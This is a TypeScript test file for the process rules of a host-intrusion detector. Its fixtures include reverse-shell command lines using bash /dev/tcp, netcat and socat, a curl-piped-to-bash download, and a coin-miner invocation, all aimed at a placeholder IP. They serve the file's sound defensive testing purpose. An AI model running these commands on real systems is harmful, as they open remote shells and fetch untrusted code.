import { describe, expect, it } from 'vitest';
import { processRules } from '../../../../src/core/hosts/rules/processes.ts';
import { foundIn, ran, unshown } from '../../../support/host-rules.ts';
import type { Firing } from '../../../support/host-rules.ts';

const fires: readonly Firing[] = [
  ['a program in /tmp', 'suspicious', 'program-in-open-folder', 'processes', ran(77, 'x', '/tmp/.X11/x', './x')],
  [
    'a deleted program in /dev/shm',
    'suspicious',
    'program-in-open-folder',
    'processes',
    ran(77, 'x', '/dev/shm/x (deleted)', './x'),
  ],
  [
    'a deleted program that no upgrade explains',
    'suspicious',
    'program-deleted',
    'processes',
    ran(77, 'helper', '/usr/bin/helper (deleted)', 'helper', 3_600),
  ],
  [
    'a deleted program of a place without packages',
    'suspicious',
    'program-deleted',
    'processes',
    ran(77, 'helper', '/usr/local/bin/helper (deleted)', 'helper', 900_000),
  ],
  [
    'a program in memory only',
    'suspicious',
    'program-in-memory',
    'processes',
    ran(77, '3', '/memfd:a (deleted)', '[kworker/0:1]'),
  ],
  [
    'a program in a hidden folder of the system',
    'suspicious',
    'program-in-hidden-folder',
    'processes',
    ran(77, 'x', '/usr/lib/.cache/x', 'x'),
  ],
  [
    'a process that poses as a kernel thread',
    'suspicious',
    'poses-as-kernel-thread',
    'processes',
    ran(77, 'kworker/u8:3', '/root/k', '[kworker/u8:3-events]'),
  ],
  [
    'a coin miner by its name',
    'suspicious',
    'known-bad-program',
    'processes',
    ran(77, 'kdevtmpfsi', '/opt/kdevtmpfsi', './kdevtmpfsi'),
  ],
  [
    'a coin miner by its arguments',
    'suspicious',
    'known-bad-program',
    'processes',
    ran(77, 'cron', '/opt/cron', './cron -o stratum+tcp://pool.example:4444'),
  ],
  [
    'a shell bound to /dev/tcp',
    'suspicious',
    'reverse-shell',
    'processes',
    ran(77, 'bash', '/usr/bin/bash', 'bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'),
  ],
  [
    'a netcat with a shell',
    'suspicious',
    'reverse-shell',
    'processes',
    ran(77, 'nc', '/usr/bin/nc', 'nc -e /bin/sh 203.0.113.66 4444'),
  ],
  [
    'a socat with a shell',
    'suspicious',
    'reverse-shell',
    'processes',
    ran(77, 'socat', '/usr/bin/socat', 'socat TCP:203.0.113.66:4444 EXEC:/bin/sh,pty'),
  ],
  [
    'a download into a shell',
    'suspicious',
    'download-to-shell',
    'processes',
    ran(77, 'sh', '/usr/bin/dash', 'sh -c curl -fsSL http://203.0.113.66/i.sh | bash'),
  ],
  [
    'a lasting script in /var/tmp',
    'suspicious',
    'script-in-open-folder',
    'processes',
    ran(77, 'perl', '/usr/bin/perl', 'perl /var/tmp/.bot.pl', 5_000),
  ],
  [
    'a script in /tmp that just began',
    'notice',
    'script-in-open-folder-briefly',
    'processes',
    ran(77, 'sh', '/usr/bin/dash', 'sh /tmp/postinst.sh', 5),
  ],
  [
    'a process that ps does not show',
    'suspicious',
    'hidden-from-ps',
    'processes',
    [
      'before 1 77 78',
      'pids 1 78',
      ...ran(1, 'systemd', '/usr/lib/systemd/systemd', '/sbin/init'),
      ...ran(77, 'x', '/usr/bin/x', 'x'),
    ],
  ],
  [
    'a program that was upgraded',
    'info',
    'program-replaced',
    'processes',
    [...ran(77, 'dbus-daemon', '/usr/bin/dbus-daemon (deleted)', '/usr/bin/dbus-daemon --system'), 'again 77'],
  ],
];

describe('the rules for processes', () => {
  it.each(fires)('find %s', (...[, severity, rule, part, rows]) => {
    expect(foundIn(part, rows)).toContain(`${severity} ${rule}`);
  });

  it('are all shown to fire', () => {
    expect(unshown(processRules, fires)).toEqual(['program-in-memory-of-runtime', 'arguments-erased']);
  });

  it('take a program in memory for the runtime only where the probe itself descends from it', () => {
    const rows = [
      'own 4000 810 0 S user sh',
      'stat 810 9 0 S user sshd',
      'exe 810 /usr/sbin/sshd',
      ...ran(9, 'shim', '/memfd:shim (deleted)', 'shim'),
      ...ran(10, 'shim', '/memfd:shim (deleted)', 'shim'),
    ];
    expect(foundIn('processes', rows)).toEqual(['info program-in-memory-of-runtime']);
    expect(foundIn('processes', rows, { 'self-pid': '1' })).toContain('suspicious program-in-memory');
  });

  it('do not take an sshd in /tmp for the runtime, though the probe descends from it', () => {
    const rows = ['own 4000 810 0 S user sh', ...ran(810, 'sshd', '/tmp/sshd', 'sshd: /tmp/sshd')];
    expect(foundIn('processes', rows)).toEqual(['suspicious program-in-open-folder']);
  });

  it('notice a process that has erased its arguments', () => {
    expect(
      foundIn('processes', [
        'stat 77 1 0 S user x',
        'exe 77 /opt/x',
        'args 77 ',
        'age 77 900',
        'stat 78 1 0 S user ended',
        'exe 78 /opt/ended',
        ...ran(1, 'init', '/sbin/init', 'init'),
      ]),
    ).toEqual(['notice arguments-erased']);
  });
});
